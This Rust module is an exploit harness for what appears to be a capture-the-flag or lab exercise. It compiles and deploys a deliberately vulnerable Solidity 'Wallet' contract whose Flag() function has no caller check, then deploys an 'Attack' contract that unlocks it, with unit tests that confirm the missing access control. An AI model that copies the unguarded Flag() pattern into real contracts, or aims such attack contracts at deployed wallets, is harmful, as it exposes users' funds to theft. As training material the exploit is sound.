//! Authorization bypass against the `Wallet` contract.
//!
//! `Wallet.Flag()` has no caller check, so any contract holding the wallet's
//! address can unlock it. [`run_exploit`] deploys the victim, deploys an
//! `Attack` contract pointing at it and unlocks the wallet through it.

use std::collections::BTreeMap;

use alloy::{
    dyn_abi::DynSolValue,
    primitives::{Address, U256},
};

use crate::{
    error::{AppError, Result},
    ethereum::{Account, ContractTemplate, DeployedContract, NodeClient},
};

/// Victim contract: an owner-initialized lock anyone can open.
pub const WALLET_SOURCE: &str = r#"
contract Wallet {
  address public owner;
  bool public locked;

  constructor(address _player)  {
    owner = _player;
    locked = true;
  }

  function Flag() public {
    locked = false;
  }
}
"#;

/// Attacker contract. Compiled together with [`WALLET_SOURCE`].
pub const ATTACK_SOURCE: &str = r#"
contract Attack {
    Wallet wallet;

    constructor(Wallet _wallet) {
        wallet = Wallet(_wallet);
    }

    function attack() external {
        wallet.Flag();
    }

    function ret(uint x) public returns (uint) {
        return 1337 + x;
    }
}
"#;

/// Source unit holding both the victim and the attacker.
pub fn attack_unit() -> String {
    format!("{}{}", WALLET_SOURCE, ATTACK_SOURCE)
}

/// Outcome of [`run_exploit`].
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ExploitReport {
    /// Address of the victim `Wallet`.
    pub wallet: Address,
    /// Address of the `Attack` contract.
    pub attack: Address,
    /// Owner recorded by the wallet's constructor.
    pub owner: Address,
    /// `Attack.ret(5)`.
    pub ret: U256,
    /// `Wallet.locked` before the attack.
    pub locked_before: bool,
    /// `Wallet.locked` after the attack.
    pub locked_after: bool,
}

impl ExploitReport {
    /// The wallet went from locked to unlocked.
    pub fn succeeded(&self) -> bool {
        self.locked_before && !self.locked_after
    }
}

/// Deploy `Wallet` owned by `account`, deploy `Attack` against it and unlock the wallet.
pub async fn run_exploit(
    client: &NodeClient,
    account: &Account,
    version: &str,
) -> Result<ExploitReport> {
    let victim_templates = client.compile(WALLET_SOURCE, version).await?;
    let wallet = template(&victim_templates, "Wallet")?
        .publish(account, &[DynSolValue::Address(account.address())])
        .await?;

    let attack_templates = client.compile(&attack_unit(), version).await?;
    let attack = template(&attack_templates, "Attack")?
        .publish(account, &[DynSolValue::Address(wallet.address())])
        .await?;

    let ret = read_uint(&attack, "ret", &[DynSolValue::Uint(U256::from(5), 256)]).await?;
    tracing::info!(ret = %ret, "Attack.ret(5)");

    let owner = read_address(&wallet, "owner").await?;
    let locked_before = read_bool(&wallet, "locked").await?;

    attack.send_transaction(account, "attack", &[], U256::ZERO).await?;

    let locked_after = read_bool(&wallet, "locked").await?;

    let report = ExploitReport {
        wallet: wallet.address(),
        attack: attack.address(),
        owner,
        ret,
        locked_before,
        locked_after,
    };

    if report.succeeded() {
        tracing::info!(wallet = %report.wallet, attack = %report.attack, "Wallet unlocked by non-owner");
    } else {
        tracing::warn!(wallet = %report.wallet, locked = report.locked_after, "Wallet still locked");
    }

    Ok(report)
}

fn template<'m, 'a>(
    templates: &'m BTreeMap<String, ContractTemplate<'a>>,
    name: &str,
) -> Result<&'m ContractTemplate<'a>> {
    templates
        .get(name)
        .ok_or_else(|| AppError::Compilation(format!("source defines no contract {}", name)))
}

async fn read_uint(contract: &DeployedContract<'_>, method: &str, args: &[DynSolValue]) -> Result<U256> {
    match contract.call(method, args).await?.as_slice() {
        [DynSolValue::Uint(value, _)] => Ok(*value),
        other => Err(unexpected(method, other)),
    }
}

async fn read_bool(contract: &DeployedContract<'_>, method: &str) -> Result<bool> {
    match contract.call(method, &[]).await?.as_slice() {
        [DynSolValue::Bool(value)] => Ok(*value),
        other => Err(unexpected(method, other)),
    }
}

async fn read_address(contract: &DeployedContract<'_>, method: &str) -> Result<Address> {
    match contract.call(method, &[]).await?.as_slice() {
        [DynSolValue::Address(value)] => Ok(*value),
        other => Err(unexpected(method, other)),
    }
}

fn unexpected(method: &str, values: &[DynSolValue]) -> AppError {
    AppError::Call(format!("{} returned unexpected values: {:?}", method, values))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_attack_unit_contains_both_contracts() {
        let unit = attack_unit();
        assert!(unit.contains("contract Wallet"));
        assert!(unit.contains("contract Attack"));
        assert!(unit.find("contract Wallet") < unit.find("contract Attack"));
    }

    #[test]
    fn test_victim_has_no_access_control() {
        let flag = WALLET_SOURCE.split("function Flag()").nth(1).unwrap();
        assert!(!flag.contains("require"));
        assert!(!flag.contains("msg.sender"));
    }

    #[test]
    fn test_report_success() {
        let report = ExploitReport {
            wallet: Address::ZERO,
            attack: Address::ZERO,
            owner: Address::ZERO,
            ret: U256::from(1342),
            locked_before: true,
            locked_after: false,
        };
        assert!(report.succeeded());
        assert!(!ExploitReport { locked_after: true, ..report.clone() }.succeeded());
        assert!(!ExploitReport { locked_before: false, ..report }.succeeded());
    }

    #[test]
    fn test_unexpected_is_call_error() {
        let err = unexpected("locked", &[]);
        assert!(matches!(err, AppError::Call(_)));
    }
}
